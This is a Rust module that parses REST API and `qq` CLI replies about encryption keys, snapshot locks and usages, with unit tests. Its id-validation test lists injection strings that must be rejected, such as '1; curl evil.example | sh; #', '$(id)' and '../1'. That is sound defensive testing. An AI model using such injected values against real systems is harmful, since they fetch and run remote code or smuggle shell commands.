//! Pure parsers of replies: what the REST API answers, what `qq` makes of it on stdout, and its
//! failures on stderr. Unknown fields are passed over.

use std::fmt;

use serde::{Deserialize, Deserializer, de::DeserializeOwned};
use serde_json::Value;

use super::{Snapshot, StoredKey, Usage};

#[derive(Deserialize)]
struct KeyReply {
    id: Id,
    name: String,
    #[serde(default)]
    comment: String,
    #[serde(default)]
    disabled: bool,
    public_key: String,
}

#[derive(Deserialize)]
struct KeysReply {
    entries: Vec<KeyReply>,
    #[serde(default)]
    paging: Paging,
}

#[derive(Deserialize)]
struct UsagesPage {
    usages: Vec<UsageReply>,
    #[serde(default)]
    paging: Paging,
}

/// Empty on the last page.
#[derive(Default, Deserialize)]
struct Paging {
    #[serde(default)]
    next: Option<String>,
}

impl Paging {
    fn next(self) -> Option<String> {
        self.next.filter(|next| !next.is_empty())
    }
}

/// The REST API's answer to what it refuses.
#[derive(Deserialize)]
struct ErrorReply {
    error_class: String,
    #[serde(default)]
    description: String,
    inner: Option<Box<ErrorReply>>,
}

#[derive(Deserialize)]
#[serde(untagged)]
enum UsagesReply {
    List(Vec<UsageReply>),
    /// 6.1.0.x, which knows these two kinds.
    ByKind {
        snapshots: Vec<Id>,
        snapshot_policies: Vec<Id>,
    },
}

#[derive(Deserialize)]
#[serde(try_from = "AnyUsage")]
struct UsageReply {
    kind: String,
    id: String,
}

#[derive(Deserialize)]
struct AnyUsage {
    #[serde(rename = "type")]
    kind: String,
    id: TextOrNumber,
}

impl TryFrom<AnyUsage> for UsageReply {
    type Error = InvalidId;

    fn try_from(AnyUsage { kind, id }: AnyUsage) -> Result<Self, InvalidId> {
        let id = match (kind.as_str(), id) {
            ("snapshot" | "snapshot_policy", id) => Id::try_from(id)?.0,
            // A UUID for a replication target; anything for kinds that a later version adds.
            (_, TextOrNumber::Text(text)) if is_word(&text) => text,
            (_, TextOrNumber::Number(number)) => number.to_string(),
            _ => return Err(InvalidId),
        };
        Ok(Self { kind, id })
    }
}

#[derive(Deserialize)]
struct ChallengeReply {
    challenge: String,
}

#[derive(Deserialize)]
struct SnapshotReply {
    id: u64,
    #[serde(default)]
    name: String,
    #[serde(default)]
    source_file_path: String,
    #[serde(default)]
    timestamp: String,
    #[serde(default)]
    expiration: Option<String>,
    // Without a default: a reply that does not tell must not read as "not locked".
    #[serde(deserialize_with = "optional_id")]
    lock_key: Option<String>,
}

#[derive(Deserialize)]
#[serde(untagged)]
enum TextOrNumber {
    Text(String),
    Number(u64),
}

/// The id of a key, a snapshot or a policy: digits, as a string or a number. Ids go into URLs and into
/// commands to copy, so nothing else may pass for one.
#[derive(Deserialize)]
#[serde(try_from = "TextOrNumber")]
struct Id(String);

/// The digits of a 64-bit number.
const LONGEST_ID: usize = 20;

/// More than twice the length of a UUID.
const LONGEST_WORD: usize = 80;

/// The id itself stays out of the message.
#[derive(Debug, thiserror::Error)]
#[error("invalid id")]
struct InvalidId;

impl TryFrom<TextOrNumber> for Id {
    type Error = InvalidId;

    fn try_from(value: TextOrNumber) -> Result<Self, InvalidId> {
        match value {
            TextOrNumber::Number(number) => Ok(Self(number.to_string())),
            TextOrNumber::Text(text)
                if (1..=LONGEST_ID).contains(&text.len())
                    && text.bytes().all(|b| b.is_ascii_digit()) =>
            {
                Ok(Self(text))
            }
            TextOrNumber::Text(_) => Err(InvalidId),
        }
    }
}

fn is_word(text: &str) -> bool {
    let allowed = |b: u8| b.is_ascii_alphanumeric() || b"-._".contains(&b);
    (1..=LONGEST_WORD).contains(&text.len()) && !text.starts_with('-') && text.bytes().all(allowed)
}

fn optional_id<'de, D: Deserializer<'de>>(deserializer: D) -> Result<Option<String>, D::Error> {
    Ok(Option::<Id>::deserialize(deserializer)?.map(|id| id.0))
}

impl From<KeyReply> for StoredKey {
    fn from(reply: KeyReply) -> Self {
        Self {
            id: reply.id.0,
            name: reply.name,
            comment: reply.comment,
            disabled: reply.disabled,
            public_key: reply.public_key,
        }
    }
}

impl From<UsageReply> for Usage {
    fn from(reply: UsageReply) -> Self {
        Self {
            kind: reply.kind,
            id: reply.id,
        }
    }
}

/// A reply that is not what was asked for.
#[derive(Debug, PartialEq, Eq)]
pub struct NotAReply {
    /// What should have come.
    pub expected: &'static str,
    /// What is wrong with it, where it is JSON.
    pub why: Option<String>,
}

impl NotAReply {
    fn new(expected: &'static str) -> Self {
        Self {
            expected,
            why: None,
        }
    }
}

/// What should have come, and what is wrong.
impl fmt::Display for NotAReply {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match &self.why {
            Some(why) => write!(f, "{} ({why})", self.expected),
            None => f.write_str(self.expected),
        }
    }
}

/// Some of what was asked for.
pub struct Page<T> {
    pub entries: Vec<T>,
    /// Where the rest is: a path, or a URL.
    pub next: Option<String>,
}

fn json<T: DeserializeOwned>(reply: &[u8], expected: &'static str) -> Result<T, NotAReply> {
    serde_json::from_slice(reply).map_err(|error| NotAReply {
        expected,
        why: error.is_data().then(|| error.to_string()),
    })
}

const KEYS: &str = "a list of keys in JSON";
const USAGES: &str = "a list of usages in JSON";

/// `fs_security_list_keys --json`.
pub fn keys(stdout: &[u8]) -> Result<Vec<StoredKey>, NotAReply> {
    keys_page(stdout).map(|page| page.entries)
}

/// `GET /v1/file-system/security/keys/`.
pub fn keys_page(body: &[u8]) -> Result<Page<StoredKey>, NotAReply> {
    let reply: KeysReply = json(body, KEYS)?;
    Ok(Page {
        entries: reply.entries.into_iter().map(Into::into).collect(),
        next: reply.paging.next(),
    })
}

/// `GET /v1/file-system/security/keys/{ref}/usages`.
pub fn usages_page(body: &[u8]) -> Result<Page<Usage>, NotAReply> {
    let reply: UsagesPage = json(body, USAGES)?;
    Ok(Page {
        entries: reply.usages.into_iter().map(Into::into).collect(),
        next: reply.paging.next(),
    })
}

/// `fs_security_add_key --json`, `fs_security_replace_key --json`.
pub fn key(stdout: &[u8]) -> Result<StoredKey, NotAReply> {
    json::<KeyReply>(stdout, "a key in JSON").map(Into::into)
}

/// `fs_security_get_key_usage --json`.
pub fn usage(stdout: &[u8]) -> Result<Vec<Usage>, NotAReply> {
    let usage = |kind: &str, Id(id)| Usage {
        kind: kind.to_owned(),
        id,
    };
    Ok(match json(stdout, USAGES)? {
        UsagesReply::List(list) => list.into_iter().map(Into::into).collect(),
        UsagesReply::ByKind {
            snapshots,
            snapshot_policies,
        } => {
            let snapshots = snapshots.into_iter().map(|id| usage("snapshot", id));
            let policies = snapshot_policies.into_iter();
            let policies = policies.map(|id| usage("snapshot_policy", id));
            snapshots.chain(policies).collect()
        }
    })
}

/// `fs_security_get_key_replace_challenge`, `snapshot_get_unlock_challenge`.
pub fn challenge(stdout: &[u8]) -> Result<String, NotAReply> {
    let expected = "a challenge in JSON";
    let reply: ChallengeReply = json(stdout, expected)?;
    match reply.challenge.is_empty() {
        true => Err(NotAReply::new(expected)),
        false => Ok(reply.challenge),
    }
}

/// `snapshot_get_status`.
pub fn snapshot(stdout: &[u8]) -> Result<Snapshot, NotAReply> {
    json(stdout, "a snapshot's status in JSON").map(|reply: SnapshotReply| Snapshot {
        id: reply.id,
        name: reply.name,
        source_file_path: reply.source_file_path,
        timestamp: reply.timestamp,
        expiration: reply.expiration.unwrap_or_default(),
        lock_key: reply.lock_key,
    })
}

/// `POST …/lock`, `POST …/unlock`: an empty body, or JSON with nothing in it.
pub fn nothing(body: &[u8]) -> Result<(), NotAReply> {
    let empty = match body.trim_ascii() {
        b"" => true,
        json => match serde_json::from_slice(json) {
            Ok(Value::Null) => true,
            Ok(Value::Object(fields)) => fields.is_empty(),
            _ => false,
        },
    };
    match empty {
        true => Ok(()),
        false => Err(NotAReply::new("an empty reply")),
    }
}

/// The words of the REST API's own error, as `qq` writes them: its class and its description, and
/// those of an inner error in parentheses. `None` for what is none.
pub fn api_error(body: &[u8]) -> Option<String> {
    fn words(error: ErrorReply) -> String {
        let outer = format!("{}: {}", error.error_class, error.description);
        match error.inner {
            Some(inner) => format!("{outer} ({})", words(*inner)),
            None => outer,
        }
    }
    serde_json::from_slice(body).ok().map(words)
}

/// `snapshot_unlock_snapshot`.
pub fn unlocked(stdout: &[u8]) -> Result<(), NotAReply> {
    done(stdout, "is unlocked", "the sentence that it is unlocked")
}

/// `snapshot_lock_snapshot`.
pub fn locked(stdout: &[u8]) -> Result<(), NotAReply> {
    done(stdout, "is locked", "the sentence that it is locked")
}

/// A sentence with these words; in 6.1.0.x the empty reply of the REST API, `null`.
fn done(stdout: &[u8], words: &str, expected: &'static str) -> Result<(), NotAReply> {
    let text = String::from_utf8_lossy(stdout);
    match text.contains(words) || text.trim() == "null" {
        true => Ok(()),
        false => Err(NotAReply::new(expected)),
    }
}

/// What a `qq` that exited with something else than 0 said.
#[derive(Debug, PartialEq, Eq)]
pub enum Complaint {
    /// The REST API's own answer.
    Api { status: u16, words: String },
    /// The request could not be made; the cluster never got it.
    NotConnected(String),
    /// The connection broke; the cluster may have got the request.
    ConnectionLost(String),
    /// A `ValueError` inside `qq`.
    Command(String),
    /// argparse did not know the arguments; nothing was sent.
    Usage(String),
    /// An exception that `qq` did not expect: its last line.
    Traceback(String),
    /// Anything else.
    Other,
}

/// Errors of name resolution and of `connect`: no request is sent before these are over.
const NOT_CONNECTED: [&str; 7] = [
    "Connection refused",
    "No route to host",
    "Network is unreachable",
    "Name or service not known",
    "Temporary failure in name resolution",
    "No address associated with hostname",
    "nodename nor servname provided",
];

/// Reads what a `qq` that failed wrote. Warnings may stand before the complaint, and a
/// description may run over several lines.
pub fn complaint(text: &str) -> Complaint {
    let mut rest = text;
    let mut usage_seen = false;
    while !rest.is_empty() {
        let line = rest.lines().next().unwrap_or_default();
        if let Some((status, words)) = printed_error(rest) {
            return Complaint::Api { status, words };
        }
        if let Some(words) = rest.strip_prefix("Connection error: ") {
            let words = words.trim_end().to_owned();
            return match NOT_CONNECTED.iter().any(|known| words.contains(known)) {
                true => Complaint::NotConnected(words),
                false => Complaint::ConnectionLost(words),
            };
        }
        if let Some(words) = rest.strip_prefix("Command error: ") {
            return Complaint::Command(words.trim_end().to_owned());
        }
        if line.starts_with("Traceback (most recent call last):") {
            let last = text.trim_end().lines().next_back().unwrap_or_default();
            return Complaint::Traceback(last.to_owned());
        }
        usage_seen |= line.starts_with("usage: ");
        if usage_seen && let Some((_, words)) = line.split_once(": error: ") {
            return Complaint::Usage(words.trim_end().to_owned());
        }
        rest = rest.split_once('\n').map_or("", |(_, rest)| rest);
    }
    Complaint::Other
}

/// `Error 404: fs_no_such_entry_error: …`; the words are all that follows the status.
fn printed_error(text: &str) -> Option<(u16, String)> {
    let (status, words) = text.strip_prefix("Error ")?.split_once(": ")?;
    let status = (status.len() == 3).then(|| status.parse().ok())??;
    Some((status, words.trim_end().to_owned()))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn an_api_error_is_found_behind_warnings_and_kept_whole() {
        let stderr = "x.py:1: DeprecationWarning: old\n  import x\n\
                      Error 404: fs_no_such_entry_error: no key\nsecond line (inner: why)\n";
        let words = "fs_no_such_entry_error: no key\nsecond line (inner: why)".to_owned();
        assert_eq!(complaint(stderr), Complaint::Api { status: 404, words });
    }

    #[test]
    fn a_connection_that_never_stood_is_told_from_one_that_broke() {
        for never in [
            "[Errno 111] Connection refused",
            "[Errno -2] Name or service not known",
        ] {
            let complaint = complaint(&format!("Connection error: {never}\n"));
            assert_eq!(complaint, Complaint::NotConnected(never.into()));
        }
        for broke in [
            "Remote end closed connection without response",
            "The read operation timed out",
            "[Errno 104] Connection reset by peer",
        ] {
            let complaint = complaint(&format!("Connection error: {broke}\n"));
            assert_eq!(complaint, Complaint::ConnectionLost(broke.into()));
        }
    }

    #[test]
    fn usage_a_traceback_and_silence_are_each_known() {
        let stderr = "usage: qq fs_security_get_key [-h] (-i ID | -n NAME) [--json]\n\
                      qq fs_security_get_key: error: one of the arguments -i/--id -n/--name is required\n";
        let words = "one of the arguments -i/--id -n/--name is required".to_owned();
        assert_eq!(complaint(stderr), Complaint::Usage(words));
        let stderr = "Traceback (most recent call last):\n  File \"x\", line 1, in f\n    g()\n\
                      http.client.InvalidURL: URL can't contain control characters.\n";
        let words = "http.client.InvalidURL: URL can't contain control characters.".to_owned();
        assert_eq!(complaint(stderr), Complaint::Traceback(words));
        assert_eq!(complaint(""), Complaint::Other);
        assert_eq!(complaint("Error 4040: no status\n"), Complaint::Other);
    }

    #[test]
    fn a_challenge_is_taken_byte_for_byte() {
        let stdout = br#"{"challenge": "a\"\\\n \ud83d\udd11 \u00e9 "}"#;
        assert_eq!(challenge(stdout).unwrap(), "a\"\\\n 🔑 é ");
        assert!(challenge(br#"{"challenge": ""}"#).is_err());
        assert!(challenge(br#"{"challenge": "a"#).is_err());
    }

    #[test]
    fn usages_are_read_in_both_forms() {
        let usage_of = |kind: &str, id: &str| Usage {
            kind: kind.to_owned(),
            id: id.to_owned(),
        };
        let new =
            br#"[{"type": "snapshot", "id": "7"}, {"type": "replication_target", "id": "x"}]"#;
        assert_eq!(
            usage(new).unwrap(),
            [
                usage_of("snapshot", "7"),
                usage_of("replication_target", "x")
            ]
        );
        let old = br#"{"snapshot_policies": ["3"], "snapshots": [7]}"#;
        assert_eq!(
            usage(old).unwrap(),
            [usage_of("snapshot", "7"), usage_of("snapshot_policy", "3")]
        );
    }

    #[test]
    fn an_empty_reply_to_a_submission_is_no_proof() {
        assert!(unlocked(b"Snapshot 7 is unlocked.\n").is_ok());
        assert!(locked(b"null\n").is_ok());
        assert!(unlocked(b"").is_err());
        assert!(locked(b"\n").is_err());
    }

    #[test]
    fn a_lock_key_is_text_number_or_null_but_never_left_out() {
        let parse = |lock: &str| snapshot(format!(r#"{{"id": 7{lock}}}"#).as_bytes());
        let lock_key = |lock: &str| parse(lock).unwrap().lock_key;
        assert_eq!(lock_key(r#", "lock_key": "2""#).as_deref(), Some("2"));
        assert_eq!(lock_key(r#", "lock_key": 2"#).as_deref(), Some("2"));
        assert_eq!(lock_key(r#", "lock_key": null"#), None);
        assert!(parse("").is_err());
    }

    #[test]
    fn ids_are_digits() {
        let key = |id: &str| {
            parsed_key(format!(r#"{{"id": {id}, "name": "a", "public_key": "b"}}"#).as_bytes())
        };
        let snapshot = |id: &str| snapshot(format!(r#"{{"id": 7, "lock_key": {id}}}"#).as_bytes());
        let usage = |kind: &str, id: &str| {
            usage(format!(r#"[{{"type": "{kind}", "id": {id}}}]"#).as_bytes())
        };
        for id in ["\"1\"", "1", "\"18446744073709551615\""] {
            assert_eq!(key(id).unwrap().id, id.trim_matches('"'));
            assert!(snapshot(id).is_ok());
            assert!(usage("snapshot", id).is_ok());
        }
        for id in [
            "\"\"",
            "\"1; curl evil.example | sh; #\"",
            "\"$(id)\"",
            "\"-1\"",
            "\"+1\"",
            "\" 1\"",
            "\"1\\n\"",
            "\"\\u0661\"",
            "\"0x1\"",
            "\"../1\"",
            "\"\\u001b[2J\"",
            "\"111111111111111111111\"",
            "-1",
            "1.5",
            "true",
            "[]",
        ] {
            assert!(key(id).is_err(), "{id}");
            assert!(snapshot(id).is_err(), "{id}");
            assert!(usage("snapshot", id).is_err(), "{id}");
            assert!(usage("snapshot_policy", id).is_err(), "{id}");
        }
        assert_eq!(
            key("\"1; evil\"").unwrap_err().to_string(),
            "a key in JSON (invalid id at line 1 column 16)"
        );
        assert!(usage("replication_target", "\"0a1b-2c3d\"").is_ok());
        for id in ["\"\"", "\"a b\"", "\"$(id)\"", "\"-rf\"", "\"a/b\""] {
            assert!(usage("replication_target", id).is_err(), "{id}");
        }
    }

    #[test]
    fn a_missing_field_is_named_and_an_unknown_one_passed_over() {
        let key = br#"{"id": "1", "name": "a", "public_key": "b", "new": {"x": [1]}}"#;
        assert_eq!(parsed_key(key).unwrap().name, "a");
        let wrong = parsed_key(br#"{"id": "1", "name": "a"}"#).unwrap_err();
        assert!(
            wrong
                .to_string()
                .starts_with("a key in JSON (missing field `public_key`")
        );
        let wrong = parsed_key(b"<html>").unwrap_err();
        assert_eq!(wrong.to_string(), "a key in JSON");
    }

    fn parsed_key(body: &[u8]) -> Result<StoredKey, NotAReply> {
        key(body)
    }

    #[test]
    fn pages_name_the_next_one() {
        let next = |paging: &str| {
            let body = format!(r#"{{"usages": [{{"type": "snapshot", "id": 7}}]{paging}}}"#);
            usages_page(body.as_bytes()).unwrap().next
        };
        assert_eq!(next(""), None);
        assert_eq!(next(r#", "paging": {"next": ""}"#), None);
        assert_eq!(next(r#", "paging": {"next": null}"#), None);
        assert_eq!(
            next(r#", "paging": {"next": "/a?b"}"#).as_deref(),
            Some("/a?b")
        );
        assert!(usages_page(b"{}").is_err());
    }

    #[test]
    fn only_an_empty_body_is_the_reply_to_a_lock() {
        for done in [&b""[..], b" \r\n", b"null", b"{}"] {
            assert!(nothing(done).is_ok());
        }
        for wrong in [
            &b"{"[..],
            b"<html>",
            b"Unlocked.",
            b"[]",
            br#"{"error_class": "x"}"#,
        ] {
            assert!(nothing(wrong).is_err());
        }
    }

    #[test]
    fn an_error_of_the_api_is_worded_as_qq_does() {
        let body = br#"{"module": "m", "error_class": "outer_error", "description": "Outer.",
            "stack": [], "user_visible": true,
            "inner": {"error_class": "inner_error", "description": "Inner."}}"#;
        assert_eq!(
            api_error(body).unwrap(),
            "outer_error: Outer. (inner_error: Inner.)"
        );
        assert_eq!(api_error(b"<html>"), None);
        assert_eq!(api_error(br#"{"error": "x"}"#), None);
    }
}
